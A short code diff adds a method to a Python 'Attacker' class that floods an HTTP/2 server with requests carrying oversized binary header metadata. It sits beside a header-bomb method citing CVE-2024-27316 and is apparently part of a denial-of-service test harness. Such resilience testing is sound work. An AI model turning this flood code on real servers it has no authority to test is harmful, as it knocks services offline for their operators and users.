@@ -110,6 +110,17 @@ class Attacker:
             each=2,
         )
 
+    def no_text(self, calls: int) -> None:
+        """Send calls whose metadata is no text, as much as a call may have."""
+        head = request_head() + b"".join(literal(b"x-%d" % n, b"\xff" * 20) for n in range(93))
+        self.send(
+            [
+                frame(1, 4, 2 * number + 1, head) + frame(3, 0, 2 * number + 1, b"\0\0\0\x08")
+                for number in range(calls)
+            ],
+            each=2,
+        )
+
     def header_bomb(self, parts: int) -> None:
         """Send headers without an end (CVE-2024-27316)."""
         block = b"".join(literal(b"x-%d" % number, b"y" * 100) for number in range(100))
